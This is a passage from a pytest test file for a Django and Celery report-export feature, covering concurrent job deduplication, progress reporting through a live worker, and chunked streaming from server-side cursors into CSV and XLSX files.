                    jurisdiction=factories.jurisdiction())
    return focal, period, expected_total(focal, period)


@pytest.mark.django_db(transaction=True)
def test_two_workers_running_the_same_job_at_once_write_it_once(export_root):
    focal, period, total = committed_world()
    job = jobs.request_export(user=focal, period=period, format="xlsx")
    results, errors = factories.at_once(lambda: jobs.run(job.pk))
    assert errors == [] and len(results) == 2 and results.count(None) == 1
    job.refresh_from_db()
    assert job.status == "done" and job.rows_done == total
    assert [path.name for path in export_root.iterdir()] == [job.file_name]
    assert AccessLog.objects.filter(action="export", object_id=str(job.pk)).count() == 1


@pytest.fixture
def worker_queue(transactional_db, monkeypatch):
    """A real Celery worker in this process, consuming a queue of this test's own, so that
    no other worker on the same Redis takes the job (nor this one another's task)."""
    queue = f"tipcms-exports-test-{uuid.uuid4().hex[:12]}"
    monkeypatch.setattr(tasks.run_export, "delay",
                        lambda job_id: tasks.run_export.apply_async((job_id,), queue=queue))
    # start_worker(queues=...) narrows what the app consumes; later workers consume all again.
    monkeypatch.setattr(app.amqp.queues, "_consume_from", None)
    with start_worker(app, perform_ping_check=False, pool="solo", concurrency=1, loglevel="WARNING",
                      queues=[queue]):
        yield queue


def test_a_real_worker_writes_the_export_once_committed_and_reports_its_progress(worker_queue, export_root,
                                                                             monkeypatch):
    focal, period, total = committed_world()
    assert total >= 5

    # One row at a time, slowly, so the progress can be watched.
    real = writers.WRITERS["csv"]

    def paced(report, path, progress, rows):
        def slow(done):
            progress(done)
            time.sleep(0.25)
        return real(report, path, slow, rows)

    monkeypatch.setitem(writers.WRITERS, "csv", paced)
    monkeypatch.setattr(writers, "CHUNK", 1)

    with transaction.atomic():
        job = jobs.request_export(user=focal, period=period, format="csv")
        time.sleep(0.5)
        # Nothing is sent before the commit.
        assert ExportJob.objects.get(pk=job.pk).status == "queued"

    client = factories.log_in(Client(), focal)
    seen, fragment = [], None
    give_up = time.monotonic() + 60
    while time.monotonic() < give_up:
        state = ExportJob.objects.values_list("status", "rows_total", "rows_done").get(pk=job.pk)
        seen.append(state)
        if state[0] == "running" and state[2] and fragment is None:
            fragment = client.get(status_url(job), {"fragment": "1"}).content.decode()
        if state[0] in ("done", "failed"):
            break
        time.sleep(0.05)
    job.refresh_from_db()
    assert job.status == "done", (job.status, job.error)
    assert job.rows_total == job.rows_done == total
    running = [state for state in seen if state[0] == "running" and state[1] is not None]
    assert running and {state[1] for state in running} == {total}
    assert all(0 <= state[2] <= total for state in running)
    assert fragment is not None and "<strong>Running</strong>" in fragment and "hx-get" in fragment
    assert re.search(rf'<span id="rows-done">\d+</span> of <span id="rows-total">{total}</span> rows', fragment)
    path = export_root / job.file_name
    assert path.exists() and hashlib.sha256(path.read_bytes()).hexdigest() == job.sha256
    _raw, tables = read_csv_zip(path)
    assert [row[3] for row in tables["meetings"][1:]] == [f"Meeting {n}" for n in range(4)]
    assert AccessLog.objects.filter(action="export", user=focal).count() == 1


# --- 9. Rows stream from server-side cursors -------------------------------------------------

@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_a_large_table_is_streamed_from_a_server_side_cursor_in_chunks(dataset, export_root, monkeypatch, format):
    _meetings(dataset.harvest, dataset.focal, dataset.today, [f"Bulk meeting {n:04d}" for n in range(3000)])
    report = coordination.build(dataset.focal, dataset.period)
    meetings = next(table for table in report.tables if table.key == "meetings")
    assert inspect.isgenerator(meetings.rows())
    total = sum(table.count() for table in report.tables)
    assert meetings.count() >= 3000

    database = type(connections["default"])
    real = database.chunked_cursor
    opened = []

    def chunked_cursor(self):
        opened.append(self.alias)
        return real(self)

    monkeypatch.setattr(database, "chunked_cursor", chunked_cursor)
    progress = []
    path = export_root / f"large.{format}"
    export_root.mkdir(parents=True)
    assert writers.WRITERS[format](report, path, progress.append, total) == total
    # One server-side cursor per table, and progress reported per chunk of rows, not at the end only.
    assert opened == ["default"] * len(report.tables)
    assert progress == [*range(writers.CHUNK, total + 1, writers.CHUNK), total]
    if format == "csv":
        _raw, tables = read_csv_zip(path)
        rows = tables["meetings"][1:]
    else:
        rows = list(load_workbook(path, read_only=True)["meetings"].iter_rows(min_row=2, values_only=True))
    assert sum(1 for row in rows if str(row[3]).startswith("Bulk meeting")) == 3000
